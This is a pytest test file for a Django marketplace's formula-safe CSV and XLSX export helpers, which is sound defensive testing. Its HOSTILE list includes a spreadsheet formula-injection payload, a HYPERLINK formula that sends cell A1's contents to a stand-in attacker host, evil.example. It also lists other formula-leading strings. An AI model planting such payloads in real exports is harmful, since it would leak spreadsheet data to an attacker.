"""The formula-safe cell writer every export uses (marketplace.core.safe_export)."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from marketplace.core.safe_export import append_xlsx_row, csv_cell, write_csv_row

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx", "=1+1"]
HARMLESS = ["Electron microscope", "电子显微镜", "a=b", "x-1", "", "'quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_text_cell_that_a_spreadsheet_would_run_is_read_back_as_quoted_text(text):
    buffer = io.StringIO()
    write_csv_row(csv.writer(buffer), [text])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_written_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [Decimal("-195650.00"), -3, Decimal("0.00"), 12, Decimal("1.5"), -0.25])
def test_numbers_stay_numbers_negative_ones_included(number):
    assert csv_cell(number) is number
    buffer = io.StringIO()
    write_csv_row(csv.writer(buffer), [number])
    assert buffer.getvalue().strip() == str(number)


def test_lazy_translations_and_none():
    assert csv_cell(None) == ""
    assert csv_cell(gettext_lazy("Total")) == "Total"


def test_xlsx_text_is_a_string_cell_never_a_formula_and_numbers_stay_numeric():
    workbook = Workbook()
    sheet = workbook.active
    append_xlsx_row(sheet, [*HOSTILE, Decimal("-2.50"), -7, "plain"])
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    for cell, text in zip(cells, HOSTILE, strict=False):
        # XML reads a carriage return back as a line feed; the cell is a string either way.
        assert cell.data_type == "s" and cell.value in (text, text.replace("\r", "\n"))
        assert cell.quotePrefix
    negative, integer, plain = cells[len(HOSTILE) :]
    assert negative.data_type == "n" and Decimal(str(negative.value)) == Decimal("-2.5")
    assert integer.data_type == "n" and integer.value == -7
    assert plain.data_type == "s" and plain.value == "plain" and not plain.quotePrefix
